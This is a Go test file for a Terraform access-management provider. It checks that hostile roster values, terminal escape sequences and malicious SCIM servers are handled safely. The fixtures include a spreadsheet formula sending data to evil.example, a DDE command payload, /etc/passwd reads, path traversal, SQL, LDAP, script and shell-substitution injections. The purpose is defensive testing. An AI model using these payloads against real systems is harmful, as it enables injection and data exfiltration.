package provider_test

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"

	"github.com/tenure-access/terraform-provider-tenure/internal/acctest"
	"github.com/tenure-access/terraform-provider-tenure/internal/sandbox"
)

// The threat model of SECURITY.md, as far as a test is possible.

// hostile are values that mean something to whoever evaluates what he should only show.
func hostile() []string {
	return []string{
		`=HYPERLINK("http://evil.example/?"&A1,"x")`, `@SUM(1+9)*cmd|' /C calc'!A0`, "${file(\"/etc/passwd\")}", "%{ if true }x%{ endif }", "{{ .Token }}",
		`' || true || '`, `x' || person.person_id != '`, `Engineering" || "a" == "a`, "../../../../etc/passwd", `..\..\x`, "%2e%2e%2fx", "a/b", "<script>alert(1)</script>",
		"[click](javascript:alert(1))", "\u202eevil\u202c", "*)(uid=*", "'; DROP TABLE users; --", "$(touch owned)", "`touch owned`",
	}
}

// A malicious roster row is data: it matches no rule, opens no file, runs nothing, and arrives in the app as the text it is.
func TestMaliciousRosterRow(t *testing.T) {
	t.Parallel()
	w, e := acctest.NewWorkspace(t), newWorld(t)
	e.group("admins")
	e.group("staff")
	var rows strings.Builder
	out := csv.NewWriter(&rows)
	_ = out.Write([]string{"source_id", "work_email", "given_name", "family_name", "title", "department", "status"})
	for i, v := range hostile() {
		_ = out.Write([]string{fmt.Sprint(1000 + i), fmt.Sprintf("p%d@acme.com", i), v, "X", v, v, "active"})
	}
	out.Flush()
	w.Write("people.csv", rows.String())
	w.Config(strings.Replace(e.hcl("", `
data "tenure_entitlements" "company" {
  rosters = ["hr"]
  rule {
    name   = "staff"
    when   = "true"
    groups = { wiki = ["staff"] }
  }
  rule {
    name   = "admins"
    when   = "person.department == 'Engineering' || person.title == 'Admin'"
    groups = { wiki = ["admins"] }
  }
  account_fields = { wiki = ["user_name", "given_name", "title"] }
}
resource "tenure_app_access" "wiki" {
  app      = "wiki"
  accounts = data.tenure_entitlements.company.apps["wiki"].accounts
  groups   = data.tenure_entitlements.company.apps["wiki"].groups
  unmanaged {
    accounts  = "report"
    members   = "report"
    assignees = "report"
  }
}
`), "provider \"tenure\" {", "provider \"tenure\" {\n  roster {\n    name = \"hr\"\n    csv { path = \"people.csv\" }\n  }\n", 1))
	w.Apply()
	for i, v := range hostile() {
		if a := e.must(fmt.Sprintf("p%d@acme.com", i)); a.GivenName != v || a.Title != v {
			t.Errorf("%q arrived as %q and %q", v, a.GivenName, a.Title)
		}
	}
	if m := e.members("admins"); len(m) != 0 {
		t.Errorf("hostile rows are admins: %v", m)
	}
	if m := e.members("staff"); len(m) != len(hostile()) {
		t.Errorf("%d of %d people are staff", len(m), len(hostile()))
	}
	entries, err := os.ReadDir(w.Dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range entries {
		if f.Name() == "owned" {
			t.Error("a value was run by a shell")
		}
	}
}

// Names that an app shows reach a terminal and a pull request: no escape sequence and no bidirectional trick comes through.
func TestNamesFromAnAppDoNotReachTheTerminal(t *testing.T) {
	t.Parallel()
	e := newSCIMEstate(t, sandbox.Options{})
	evil := "\x1b]0;owned\x07\x1b[2Jevil\u202egpj.exe\u0085\r\n@acme.com"
	u, err := e.AddUser(sandbox.User{UserName: evil, Title: evil})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := e.AddGroup(sandbox.Group{DisplayName: "eng", Members: []string{u.ID}}); err != nil {
		t.Fatal(err)
	}
	e.config(`
resource "tenure_app_access" "this" {
  app      = "slack"
  accounts = { k = { user_name = "p@x" } }
  groups   = { eng = {} }
  unmanaged {
    accounts  = "report"
    members   = "remove"
    assignees = "report"
  }
}
`)
	text := e.Run("apply", "-auto-approve")
	plan, _ := e.Try("plan")
	if err := e.AddFaults(sandbox.Rule{Method: "PATCH", Path: "^/Groups/", Fault: sandbox.Fault{Status: 400}}); err != nil {
		t.Fatal(err)
	}
	failed, _ := e.Try("apply", "-auto-approve")
	for name, s := range map[string]string{"first apply": text, "plan": plan, "failed apply": failed} {
		for _, r := range []string{"\x1b", "\x07", "\u202e", "\u0085", "\r"} {
			if i := strings.Index(s, r); i >= 0 {
				t.Errorf("%s holds %q: %q", name, r, s[max(0, i-60):min(len(s), i+40)])
			}
		}
	}
	if !strings.Contains(plan, "evil") {
		t.Errorf("the stranger is not named at all:\n%s", plan)
	}
}

// An app that answers with more than anybody can hold, a redirect to another host, or a bomb: one error, no credential
// given away, the state untouched.
func TestMaliciousApp(t *testing.T) {
	t.Parallel()
	var elsewhere []string
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		elsewhere = append(elsewhere, r.Header.Get("Authorization"))
	}))
	t.Cleanup(other.Close)
	for name, answer := range map[string]http.HandlerFunc{
		"redirect": func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, other.URL+r.URL.Path, http.StatusFound)
		},
		"next page elsewhere": func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "application/scim+json")
			fmt.Fprintf(w, `{"totalResults": 5000, "itemsPerPage": 1, "startIndex": 1, "nextCursor": %q, "Resources": [{"id": "1", "userName": "a"}]}`, other.URL)
		},
		"endless body": func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "application/scim+json")
			_, _ = w.Write([]byte(`{"totalResults": 1, "Resources": [{"id": "1", "userName": "`))
			junk := []byte(strings.Repeat("x", 1<<20))
			for range 400 {
				if _, err := w.Write(junk); err != nil {
					return
				}
			}
		},
		"deep nesting": func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "application/scim+json")
			_, _ = w.Write([]byte(`{"totalResults": 1, "Resources": ` + strings.Repeat("[", 5_000_000)))
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			evil := httptest.NewServer(answer)
			t.Cleanup(evil.Close)
			w := acctest.NewWorkspace(t)
			w.Config(fmt.Sprintf(`
provider "tenure" {
  app {
    name        = "slack"
    max_retries = 0
    scim {
      base_url = %q
      token    = %q
    }
  }
}
data "tenure_accounts" "all" {
  app = "slack"
}
`, evil.URL, secretToken))
			out, code := w.Try("plan")
			if code != 1 || strings.Count(out, "Error: ") != 1 {
				t.Errorf("exit code %d:\n%.2000s", code, out)
			}
			if strings.Contains(out, secretToken) || strings.Contains(out, "panic") || len(out) > 20_000 {
				t.Errorf("%d bytes of output:\n%.2000s", len(out), out)
			}
		})
	}
	t.Cleanup(func() {
		if len(elsewhere) > 0 {
			t.Errorf("another host was asked, with %q", elsewhere)
		}
	})
}
